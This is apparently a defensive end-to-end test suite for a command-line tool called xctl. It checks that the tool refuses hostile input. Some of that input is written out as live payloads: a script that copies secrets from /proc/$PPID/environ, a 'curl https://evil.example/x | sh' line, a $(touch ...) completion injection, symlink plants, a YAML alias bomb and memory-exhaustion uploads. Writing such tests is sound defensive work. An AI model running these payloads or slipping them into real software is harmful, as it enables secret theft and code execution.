// Issue 42 (hardening, fourth round), end to end: the real CLI against a real sandbox, a hostile
// audiences file, a hostile neighbour (a second uid via setpriv) and hostile servers on loopback.
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, runCli, tempDir, useTestSandbox, xctl } from '../helpers/cli.js';
import { secretServiceMissing, startSecretService, type SecretService } from '../helpers/keyring.js';
import { otherUser } from '../helpers/other-user.js';
import { spawnCli } from '../helpers/receiver.js';

const t = useTestSandbox();

function fresh(): string {
  const d = tempDir('xctl-h4-');
  t.dirs.push(d);
  return d;
}

describe('item 1: an audiences file with commands is code', () => {
  /** A folder with audiences.yaml whose one audience is read from `./source.sh` (the script given). */
  function repo(script: string): { dir: string; yaml: string } {
    const dir = fresh();
    fs.writeFileSync(path.join(dir, 'source.sh'), `#!/bin/sh\n${script}\necho a@example.com\n`, { mode: 0o755 });
    const yaml = path.join(dir, 'audiences.yaml');
    fs.writeFileSync(
      yaml,
      `defaults:\n  account: ${t.sb.seed.account_id}\n  type: email\naudiences:\n  - name: From a command\n    command: ./source.sh\n`,
    );
    return { dir, yaml };
  }
  // The parent's environment, whatever shell sits between: the script's parent and its parent's.
  const LEAK = `{ cat /proc/$PPID/environ; cat /proc/$(cut -d' ' -f4 /proc/$PPID/stat)/environ; } > leak.txt 2>/dev/null`;

  it('--plan of a file nobody allowed runs none of its commands: /proc/$PPID/environ holds the secrets', async () => {
    const { dir, yaml } = repo(LEAK);
    const cfg = fresh();
    let r = await t.run(xctl`audiences apply -f ${yaml} --plan`, { env: { XCTL_CONFIG_DIR: cfg } });
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain(`error: ${yaml} runs commands ("From a command": ./source.sh); they would run as you`);
    expect(r.stderr).toContain('pass --allow-commands for this run, or trust this exact file');
    expect(fs.existsSync(path.join(dir, 'leak.txt'))).toBe(false);
    // What the refusal prevents: allowed, the command reads them, XCTL_* scrubbing or not.
    r = await t.run(xctl`audiences apply -f ${yaml} --plan --allow-commands`, { env: { XCTL_CONFIG_DIR: cfg } });
    expect(r.code, r.stderr).toBe(10);
    expect(fs.readFileSync(path.join(dir, 'leak.txt'), 'latin1')).toContain(`XCTL_API_SECRET=${t.sb.seed.api_secret}`);
  });

  it("a command cannot plant a file in the user's code cache unless allowed", async () => {
    const cache = fresh();
    const { yaml } = repo(`echo planted > ${cache}/main.v8`);
    const env = { XCTL_CONFIG_DIR: fresh(), XCTL_COMPILE_CACHE: cache };
    const r = await t.run(xctl`audiences apply -f ${yaml} --plan`, { env });
    expect(r.code, r.stderr).toBe(2);
    expect(fs.existsSync(path.join(cache, 'main.v8'))).toBe(false);
  });

  it('--trust allows that exact text; a changed file is never planned with its commands, even with --allow-commands', async () => {
    const { dir, yaml } = repo('touch ran-1');
    const env = { XCTL_CONFIG_DIR: fresh() };
    let r = await t.run(xctl`audiences apply -f ${yaml} --trust`, { env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/^trusted .*audiences\.yaml \(sha256 [0-9a-f]{64}\): its 1 commands run on plans/);
    expect(fs.existsSync(path.join(dir, 'ran-1'))).toBe(false); // trusting runs nothing
    r = await t.run(xctl`audiences apply -f ${yaml} --plan`, { env });
    expect(r.code, r.stderr).toBe(10);
    expect(fs.existsSync(path.join(dir, 'ran-1'))).toBe(true);

    // A pull request edits the file (a command, or only a comment: any byte).
    fs.appendFileSync(yaml, '# edited\n');
    fs.writeFileSync(path.join(dir, 'source.sh'), '#!/bin/sh\ntouch ran-2\necho a@example.com\n');
    for (const extra of [[], ['--allow-commands']]) {
      r = await t.run(xctl`audiences apply -f ${yaml} --plan ${extra}`, { env });
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toContain(`error: ${yaml} changed since you trusted it, and --plan never runs the commands`);
    }
    expect(fs.existsSync(path.join(dir, 'ran-2'))).toBe(false);
    // Trusted again after review: it runs.
    expect((await t.run(xctl`audiences apply -f ${yaml} --trust`, { env })).code).toBe(0);
    r = await t.run(xctl`audiences apply -f ${yaml} --plan`, { env });
    expect(r.code, r.stderr).toBe(10);
    expect(fs.existsSync(path.join(dir, 'ran-2'))).toBe(true);
  });
});

describe('item 3: a state folder another user made or can write to is refused', () => {
  it('a planted apply state, links to the output and temporary files: refused before anything is read or written', async (c) => {
    const other = otherUser();
    if (typeof other === 'string') return c.skip(other);
    const shared = fresh();
    fs.chmodSync(shared, 0o1777); // like /tmp
    const victim = fresh();
    const important = path.join(victim, 'important.txt');
    fs.writeFileSync(important, 'keep me\n');
    const made = await t.run(xctl`audiences create --name ${'Victim audience'} --json`);
    expect(made.code, made.stderr).toBe(0);
    const id = (JSON.parse(made.stdout) as { id: string }).id;
    // The neighbour's folder: an apply state claiming the victim's audience, links everywhere.
    const xstate = path.join(shared, 'xstate');
    const acct = path.join(xstate, 'audiences', 'default', t.sb.seed.account_id);
    const state = JSON.stringify({
      xctl_apply_state: 1,
      audiences: [{ id, kind: 'custom_audience', name: 'Victim audience', created: true, grants: {} }],
      creating: [],
    });
    const links = Array.from({ length: 50 }, (_, i) => `ln -s ${important} ${acct}/apply-state.json.tmp-${i}`);
    const plant = await other.run([
      'sh',
      '-c',
      `umask 022; mkdir -p ${acct} && printf '%s' '${state}' > ${acct}/apply-state.json && ${links.join(' && ')}`,
    ]);
    expect(plant.code, plant.stderr).toBe(0);
    fs.writeFileSync(path.join(victim, 'mine.txt'), 'b@example.com\n');
    const yaml = path.join(victim, 'audiences.yaml');
    fs.writeFileSync(
      yaml,
      `defaults:\n  account: ${t.sb.seed.account_id}\n  type: email\naudiences:\n  - name: Mine\n    source: mine.txt\n`,
    );
    const r = await t.run(xctl`audiences apply -f ${yaml} --prune --state-dir ${xstate}`);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain(
      `error: refusing to use the state folder: ${xstate}, a folder above it, belongs to another user`,
    );
    expect(t.sb.app.state.collection('custom_audiences').get(id)!.deleted).toBe(false);
    expect(fs.readFileSync(important, 'utf8')).toBe('keep me\n');
    // Sync and upload keep their snapshots and journals there: refused the same way.
    for (const args of [
      xctl`audiences sync ${id} ${path.join(victim, 'mine.txt')} --type email --state-dir ${xstate}`,
      xctl`audiences upload ${id} ${path.join(victim, 'mine.txt')} --type email --state-dir ${xstate}`,
    ]) {
      const s = await t.run(args);
      expect(s.code, `${args.join(' ')}: ${s.stderr}`).toBe(2);
      expect(s.stderr).toContain('refusing to use the state folder');
    }
  });
});

describe('item 4: request bodies are bounded before they are held', () => {
  /** Peak resident memory of a process, from the kernel (no sampling, no timing). */
  const peakMb = (pid: number) => {
    const m = /VmHWM:\s+(\d+) kB/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'));
    return Number(m![1]) / 1024;
  };

  it('200 stalled uploads declaring 5.9 MB each (no key, or a bogus bearer) keep the sandbox under 250 MB', async (c) => {
    if (!fs.existsSync('/proc/self/status')) return c.skip('reads the peak from /proc');
    const sb = spawnCli(['sandbox', 'start', '--json', '--no-log'], {});
    try {
      const [line] = await sb.waitStdout(/^\{.*\}\n/);
      const base = new URL((JSON.parse(line) as { base_url: string }).base_url);
      const declared = 5_900_000;
      const chunk = Buffer.alloc(declared - 1, 0x61); // one byte short: each request stalls, held
      const sockets: net.Socket[] = [];
      /** One upload: resolves once all its bytes were taken by the sandbox, or it was cut off. */
      const upload = (target: string, auth: string) =>
        new Promise<void>((resolve) => {
          const s = net.connect(Number(base.port), base.hostname);
          sockets.push(s);
          s.on('error', () => resolve());
          s.on('close', () => resolve());
          s.write(
            `POST ${target} HTTP/1.1\r\nHost: ${base.host}\r\n${auth}content-type: application/json\r\ncontent-length: ${declared}\r\n\r\n`,
          );
          s.write(chunk, () => resolve());
        });
      await Promise.all([
        ...Array.from({ length: 100 }, () => upload('/_sandbox/clock', '')),
        ...Array.from({ length: 100 }, () => upload('/2/webhooks', 'authorization: Bearer bogus\r\n')),
      ]);
      if (sb.child.exitCode !== null) throw new Error(sb.stderr());
      const peak = peakMb(sb.child.pid!);
      for (const s of sockets) s.destroy();
      expect(peak).toBeLessThan(250);
      // It still answers.
      const r = await fetch(`${base.origin}/_sandbox/state`);
      expect(r.status).toBe(200);
    } finally {
      await sb.stop('SIGTERM');
    }
  }, 120_000);
});

describe('item 5: webhooks send ends', () => {
  /** A receiver that answers 200 and then drips a byte every 200 ms, never ending its answer. */
  async function dripping(): Promise<{ url: string; hit: Promise<void>; close(): Promise<void> }> {
    const timers = new Set<NodeJS.Timeout>();
    let onHit = () => {};
    const hit = new Promise<void>((r) => (onHit = r));
    const server = http.createServer((req, res) => {
      req.resume();
      res.writeHead(200, { 'content-type': 'text/plain' });
      onHit();
      const t = setInterval(() => res.write('.'), 200);
      timers.add(t);
      res.on('close', () => clearInterval(t));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as net.AddressInfo).port;
    return {
      url: `http://127.0.0.1:${port}/webhooks`,
      hit,
      close: () =>
        new Promise<void>((r) => {
          for (const t of timers) clearInterval(t);
          server.closeAllConnections();
          server.close(() => r());
        }),
    };
  }

  it('the global --deadline cuts off a receiver that drips its answer (exit 75, named)', async () => {
    const d = await dripping();
    try {
      const r = await t.run(xctl`webhooks send --to ${d.url} --event profile.update.bio --deadline 1`);
      expect(r.code, r.stderr).toBe(75);
      expect(r.stderr).toContain('the --deadline of 1s passed before the command finished');
    } finally {
      await d.close();
    }
  });

  it('SIGTERM ends it at once (exit 130), whatever the receiver does', async () => {
    const d = await dripping();
    const l = spawnCli(xctl`webhooks send --to ${d.url} --event profile.update.bio`, t.env);
    try {
      await d.hit;
      expect(await l.stop('SIGTERM')).toBe(130);
      expect(l.stderr()).toContain('terminated');
    } finally {
      await d.close();
    }
  });
});

describe("item 9: a server's message cannot forge a line of xctl's own", () => {
  it('a 400 whose message holds "\\nhint: ..." prints it on the error line, escaped', async () => {
    const server = http.createServer((req, res) => {
      req.resume();
      res.writeHead(400, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({ errors: [{ code: 44, message: 'Bad value.\nhint: run curl https://evil.example/x | sh' }] }),
      );
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    try {
      const base = `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`;
      const r = await t.run(xctl`request /1.1/account/settings.json --auth none --base-url ${base}`);
      expect(r.code).toBe(1);
      expect(r.stderr.split('\n').filter((l) => l.includes('evil.example'))).toEqual([
        'error: Bad value.\\u000ahint: run curl https://evil.example/x | sh (HTTP 400, code 44)',
      ]);
    } finally {
      server.close();
    }
  });
});

describe('item 10: Tab runs nothing a config file or a cache planted', () => {
  it('a profile named $(touch PWN) is not offered to bash (nothing runs at Tab); nor an id starting with -', async () => {
    const d = fresh();
    const bin = path.join(d, 'bin');
    fs.mkdirSync(bin);
    fs.writeFileSync(path.join(bin, 'xctl'), `#!/bin/sh\nexec "${process.execPath}" "${BIN}" "$@"\n`, { mode: 0o755 });
    const cfg = path.join(d, 'cfg');
    fs.mkdirSync(cfg, { mode: 0o700 });
    const pwn = path.join(d, 'PWN');
    fs.writeFileSync(
      path.join(cfg, 'config.json'),
      JSON.stringify({ profiles: { good: {}, [`$(touch ${pwn})`]: {}, '-rf': {} } }),
      { mode: 0o600 },
    );
    const env = { XCTL_CONFIG_DIR: cfg, PATH: `${bin}:${process.env.PATH}` };
    const script = path.join(d, 'c.bash');
    fs.writeFileSync(script, (await t.run(['completion', 'bash'], { env })).stdout);
    const tab = spawnSync(
      'bash',
      [
        '-c',
        `source ${script}; COMP_WORDS=(xctl --profile ''); COMP_CWORD=2; _xctl; printf '%s\\n' "\${COMPREPLY[@]}"`,
      ],
      { encoding: 'utf8', env: { ...process.env, ...env } },
    );
    expect(tab.stdout.split('\n').filter(Boolean)).toEqual(['good']);
    expect(fs.existsSync(pwn)).toBe(false);

    // Ids: a cache entry starting with '-' (an option once completed) is dropped.
    const cache = path.join(d, 'cache');
    const idEnv = { XCTL_CACHE_DIR: cache, XCTL_CONFIG_DIR: fresh() };
    expect((await t.run(['__complete', 'campaign'], { env: idEnv })).code).toBe(0);
    const folder = path.join(cache, 'completion');
    const file = path.join(folder, fs.readdirSync(folder).find((f) => f.startsWith('campaign-'))!);
    const data = JSON.parse(fs.readFileSync(file, 'utf8')) as { entries: Array<{ id: string; name: string }> };
    data.entries = [{ id: '-rf', name: 'planted' }, ...data.entries];
    fs.writeFileSync(file, JSON.stringify(data));
    const r = await t.run(['__complete', 'campaign'], { env: idEnv });
    expect(r.stdout).not.toContain('-rf');
    expect(r.stdout.split('\n').filter(Boolean).length).toBe(data.entries.length - 1);
  });
});

describe.skipIf(!!secretServiceMissing())('item 11: a locked keychain is named, never silent', () => {
  let ss: SecretService | undefined;
  beforeAll(async () => {
    ss = await startSecretService();
  }, 30_000);
  afterAll(async () => {
    await ss?.stop();
  });

  it('auth status gives the keychain error; auth set warns that the secrets went to the file', async () => {
    const env = { ...ss!.env, XCTL_CONFIG_DIR: fresh() };
    const set = (profile: string) =>
      runCli(['--profile', profile, 'auth', 'set', '--api-key', `key-${profile}`, '--api-secret', '-'], {
        env,
        input: 'a-secret-for-the-test-0123456789\n',
      });
    let r = await set('default');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).not.toContain('warning');
    await ss!.lock();
    r = await runCli(['auth', 'status'], { env });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('profile "default" keeps its secrets in the OS keychain, which cannot be used now');
    expect(r.stderr).not.toContain('no usable credentials');
    r = await set('second');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('warning: the OS keychain cannot be used (the keychain did not answer');
    expect(r.stderr).toContain(
      `the secrets were written to the 0600 file ${path.join(env.XCTL_CONFIG_DIR, 'config.json')} instead`,
    );
  }, 60_000);
});

describe('item 12: caching the bearer is best effort', () => {
  const canUnshare =
    spawnSync(
      'unshare',
      [
        '-m',
        'sh',
        '-c',
        'd=$(mktemp -d) && mount --bind "$d" "$d" && mount -o remount,bind,ro "$d" "$d" && ! touch "$d/x" 2>/dev/null',
      ],
      { stdio: 'ignore' },
    ).status === 0;

  it.skipIf(!canUnshare)(
    'an app-only read with a read-only config folder (a store in it) works, and says so',
    async () => {
      const cfg = path.join(fresh(), 'cfg');
      fs.mkdirSync(cfg, { mode: 0o700 });
      fs.writeFileSync(path.join(cfg, 'config.json'), '{"profiles":{"default":{}}}', { mode: 0o600 });
      const script = 'mount --bind "$1" "$1" && mount -o remount,bind,ro "$1" "$1" && shift && exec "$@"';
      const env: Record<string, string> = {};
      for (const [k, v] of Object.entries(process.env)) if (v !== undefined && !k.startsWith('XCTL_')) env[k] = v;
      Object.assign(env, {
        XCTL_CONFIG_DIR: cfg,
        XCTL_BASE_URL: t.sb.baseUrl,
        XCTL_API_KEY: t.sb.seed.api_key,
        XCTL_API_SECRET: t.sb.seed.api_secret,
        XCTL_COMPILE_CACHE: '0',
      });
      // Asynchronous: the sandbox answering it runs in this process.
      const r = await new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) => {
        const argv = ['-m', 'sh', '-c', script, 'sh', cfg, process.execPath, BIN, 'webhooks', 'list', '-o', 'json'];
        const child = spawn('unshare', argv, { env, stdio: ['ignore', 'pipe', 'pipe'] });
        let stdout = '';
        let stderr = '';
        child.stdout.on('data', (d) => (stdout += d));
        child.stderr.on('data', (d) => (stderr += d));
        child.on('close', (status) => resolve({ status, stdout, stderr }));
      });
      expect(r.status, r.stderr).toBe(0);
      expect(JSON.parse(r.stdout)).toEqual([]);
      expect(r.stderr).toContain('note: the bearer token could not be cached');
    },
  );
});

describe('item 13: an alias bomb and deeply nested JSON are bad input', () => {
  it('exit 2 with a plain message, not "a bug in xctl"', async () => {
    const d = fresh();
    const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x]'];
    for (let i = 1; i < 10; i++)
      lines.push(
        `a${i}: &a${i} [${Array(9)
          .fill(`*a${i - 1}`)
          .join(', ')}]`,
      );
    const bomb = path.join(d, 'bomb.yaml');
    fs.writeFileSync(bomb, `${lines.join('\n')}\naudiences: *a9\n`);
    let r = await t.run(xctl`audiences apply -f ${bomb} --plan`);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toBe(
      `error: ${bomb} cannot be read: Excessive alias count indicates a resource exhaustion attack\n`,
    );
    const deep = path.join(d, 'deep.json');
    fs.writeFileSync(deep, '['.repeat(100_000) + ']'.repeat(100_000));
    r = await t.run(xctl`request /2/tweets -X POST --body ${`@${deep}`}`);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toBe('error: --body: the body nests deeper than 512 levels: nothing was sent\n');
  });
});
